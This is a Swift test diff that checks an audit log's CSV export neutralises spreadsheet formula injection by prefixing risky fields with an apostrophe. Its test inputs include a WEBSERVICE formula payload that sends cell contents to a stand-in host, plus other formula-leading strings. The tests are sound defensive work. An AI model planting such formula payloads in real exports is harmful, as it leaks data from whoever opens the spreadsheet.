@@ -70,3 +70,56 @@ import Testing
         #expect(row.hasPrefix("6,2026-11-26T09:00:50.000Z,sde-broker,,,audit.checkpoint,,{},"))
     }
 }
+
+/// A caller's text in an export never reaches a spreadsheet as a formula (issue 13: a path id `=WEBSERVICE(...)` was
+/// stored verbatim and exported as one).
+@Suite struct AuditExportFormulaTests {
+    /// The fields of one RFC 4180 record (no line ends inside).
+    static func fields(_ row: Substring) -> [String] {
+        var fields: [String] = [], field = "", quoted = false, chars = Array(row), i = 0
+        while i < chars.count {
+            let c = chars[i]
+            if quoted {
+                if c != "\"" {
+                    field.append(c)
+                } else if i + 1 < chars.count && chars[i + 1] == "\"" {
+                    field.append("\"")
+                    i += 1
+                } else {
+                    quoted = false
+                }
+            } else if c == "\"" {
+                quoted = true
+            } else if c == "," {
+                fields.append(field)
+                field = ""
+            } else {
+                field.append(c)
+            }
+            i += 1
+        }
+        return fields + [field]
+    }
+
+    @Test(arguments: ["=WEBSERVICE(\"http://x.test/\"&A1)", "+1+2", "-2+3", "@SUM(A1:A9)"])
+    func aFieldThatStartsAFormulaIsPrefixed(_ text: String) throws {
+        let draft = try AuditEventDraft(
+            actor: text, role: "researcher", project: text, action: .queryDenied, target: text, parameters: ["p": text], outcome: .denied,
+            reason: "-unknown_query")
+        let event = AuditChain().seal(draft, at: ChainFixture.time(0))
+        let row = AuditExporter.render([event], format: .csv).split(separator: "\r\n")[1]
+        let fields = Self.fields(row)
+        #expect(fields.count == AuditExporter.csvColumns.count)
+        for (column, field) in zip(AuditExporter.csvColumns, fields) {
+            #expect(!["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"].contains(field.first.map(String.init) ?? ""), "\(column): \(field)")
+        }
+        // The text itself survives behind the apostrophe, so the review still sees what was sent.
+        #expect(fields[2] == "'" + text && fields[4] == "'" + text && fields[6] == "'" + text && fields[10] == "'-unknown_query")
+    }
+
+    @Test func plainFieldsAreUnchanged() throws {
+        let draft = try AuditEventDraft(actor: "u.khan", role: "researcher", project: "P1", action: .queryRun, target: "q-1", outcome: .allowed)
+        let row = AuditExporter.render([AuditChain().seal(draft, at: ChainFixture.time(0))], format: .csv).split(separator: "\r\n")[1]
+        #expect(row.hasPrefix("1,2026-11-26T09:00:00.000Z,u.khan,researcher,P1,query.run,q-1,{},"))
+    }
+}
